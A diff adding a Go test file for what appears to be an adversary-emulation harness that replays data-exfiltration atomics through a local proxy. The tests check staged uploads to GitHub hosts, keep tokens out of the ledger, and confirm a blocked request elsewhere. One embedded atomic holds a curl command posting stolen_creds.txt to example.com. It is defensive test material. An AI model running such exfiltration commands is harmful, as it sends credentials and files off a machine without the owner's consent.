@@ -1,0 +1,134 @@
+package harness
+
+import (
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/t1567001/harness/executor"
+	"github.com/t1567001/harness/fixtures"
+)
+
+func TestMain(m *testing.M) {
+	if len(os.Args) > 1 && os.Args[1] == "replay-http" {
+		os.Exit(executor.Replay(context.Background(), os.Args[2:], os.Stdout, os.Stderr))
+	}
+	os.Exit(m.Run())
+}
+
+func options(t *testing.T) Options {
+	t.Helper()
+	exe, err := os.Executable()
+	require.NoError(t, err)
+	return Options{Harness: exe, Timeout: time.Minute}
+}
+
+func fixtureSHA(t *testing.T, name string) string {
+	t.Helper()
+	data, err := fixtures.FS.ReadFile("sensitive/" + name)
+	require.NoError(t, err)
+	sum := sha256.Sum256(data)
+	return hex.EncodeToString(sum[:])
+}
+
+func TestFourAtomicsEndToEnd(t *testing.T) {
+	run, err := RunLocal(context.Background(), options(t))
+	require.NoError(t, err)
+	res := run.Results
+	require.Len(t, res.Atomics, 4)
+	assert.NotEmpty(t, res.RunID)
+	assert.Equal(t, "local", res.Mode)
+
+	want := map[string]struct {
+		host, method string
+		files        []string
+	}{
+		"5b3c6f0e-8a8e-4c2f-9f35-1567001a0001": {"api.github.com", "PUT", []string{"finance_q3.csv"}},
+		"5b3c6f0e-8a8e-4c2f-9f35-1567001a0002": {"github.com", "POST", []string{"stolen_creds.txt", "finance_q3.csv"}},
+		"5b3c6f0e-8a8e-4c2f-9f35-1567001a0003": {"api.github.com", "POST", []string{"stolen_creds.txt"}},
+		"5b3c6f0e-8a8e-4c2f-9f35-1567001a0004": {"api.github.com", "PUT", []string{"hosts"}},
+	}
+	for _, a := range res.Atomics {
+		t.Run(a.Name, func(t *testing.T) {
+			w, ok := want[a.GUID]
+			require.True(t, ok, a.GUID)
+			assert.Equal(t, 0, a.ExitCode, a.Stderr)
+			assert.True(t, a.Intact)
+			if a.GUID == "5b3c6f0e-8a8e-4c2f-9f35-1567001a0001" {
+				// Honest about PowerShell: simulated unless pwsh is really here.
+				assert.Contains(t, []string{"simulated", "executed"}, a.Execution)
+				if a.Execution == "simulated" {
+					assert.Contains(t, a.SimulationReason, "pwsh")
+				}
+			} else {
+				assert.Equal(t, "executed", a.Execution)
+			}
+			require.Len(t, a.Staged, len(w.files))
+			for i, name := range w.files {
+				assert.Equal(t, name, a.Staged[i].Name)
+				assert.Equal(t, fixtureSHA(t, name), a.Staged[i].SHA256)
+				assert.True(t, a.Staged[i].Arrived, name)
+			}
+			require.NotEmpty(t, a.Uploads)
+			for _, u := range a.Uploads {
+				assert.Equal(t, w.host, u.Host)
+				assert.Equal(t, w.method, u.Method)
+				assert.True(t, u.Intact, "%+v", u)
+			}
+			for _, q := range a.Requests {
+				assert.False(t, q.Refused, "%+v", q)
+			}
+		})
+	}
+	// The ledger never holds the token, whatever the client sent.
+	for _, e := range run.Ledger {
+		assert.NotContains(t, e.Path, "ghp_")
+		assert.NotContains(t, e.Note, "ghp_")
+	}
+}
+
+func TestOtherHostsAreRefusedAndRecorded(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "T0000.yaml")
+	require.NoError(t, os.WriteFile(path, []byte(`attack_technique: T0000
+display_name: egress probe
+atomic_tests:
+- name: reach outside
+  description: tries to leave the machine; must be refused by the proxy
+  supported_platforms: [linux]
+  staged_files: [stolen_creds.txt]
+  executor:
+    name: sh
+    command: |
+      curl -sS --fail --max-time 20 -X POST --data-binary @stolen_creds.txt https://example.com/upload
+`), 0o600))
+	opts := options(t)
+	opts.Atomics = path
+	run, err := RunLocal(context.Background(), opts)
+	require.NoError(t, err)
+	require.Len(t, run.Results.Atomics, 1)
+	a := run.Results.Atomics[0]
+	assert.NotEqual(t, 0, a.ExitCode)
+	assert.False(t, a.Intact)
+	assert.Empty(t, a.Uploads)
+	require.Len(t, a.Requests, 1)
+	assert.Equal(t, "example.com", a.Requests[0].Host)
+	assert.True(t, a.Requests[0].Refused)
+	assert.Equal(t, 403, a.Requests[0].Status)
+}
+
+func TestLoadAtomicsSelection(t *testing.T) {
+	sel, err := LoadAtomics("", []string{"5B3C6F0E-8A8E-4C2F-9F35-1567001A0003", "automated data exfiltration via python github api script"})
+	require.NoError(t, err)
+	require.Len(t, sel, 2)
+	assert.Equal(t, "Exfiltrate Data via GitHub Gist API Using curl", sel[0].Test.Name)
+	_, err = LoadAtomics("", []string{"nope"})
+	assert.ErrorContains(t, err, `no atomic test named "nope"`)
+}
